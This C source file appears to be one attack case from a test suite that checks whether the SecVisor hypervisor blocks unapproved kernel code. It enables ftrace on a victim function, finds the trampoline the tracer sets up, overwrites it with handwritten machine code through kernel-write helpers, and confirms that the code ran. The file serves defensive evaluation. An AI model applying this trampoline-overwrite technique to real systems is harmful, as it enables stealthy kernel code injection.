// Row 16. The function tracer's trampoline, which is approved, written to while a system call's entry calls it.
// Source: ftrace as a hooking engine; executable memory that Linux allocates at run time.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <errno.h>
#include <string.h>
#include <sys/mount.h>

ATTACK("ftrace-written")
{
	u64 at = symbol(VICTIM), page = kernel_page(), trampoline;
	// mov rax, page; mov dword [rax], MARK; ret
	u8 code[] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc7, 0, 0x37, 0x13, 0, 0, 0xc3 };
	static char text[65536];
	s32 relative;
	int error;

	mount("trace", "/sys/kernel/tracing", "tracefs", 0, NULL);
	write_file("/sys/kernel/tracing/set_ftrace_filter", VICTIM "\n");
	at = find_bytes(at, 8, "\x0f\x1f\x44\x00\x00", 5);
	if ((error = write_file("/sys/kernel/tracing/current_tracer", "function\n")))
		failed("no tracer: %s", strerror(error));
	victim();
	read_file("/sys/kernel/tracing/trace", text, sizeof(text));
	if (!strstr(text, VICTIM " <-"))
		failed("the function was not traced");
	kread(at + 1, &relative, 4);
	trampoline = at + 5 + relative;
	memcpy(code + 2, &page, 8);
	poke(page, 0);
	kwrite(trampoline, code, sizeof(code));
	about_to("run what was written over a trampoline");
	victim();
	if ((u32)kread64(page) == MARK)
		succeeded("code written over the trampoline at %#llx ran", (unsigned long long)trampoline);
	failed("it did nothing");
}
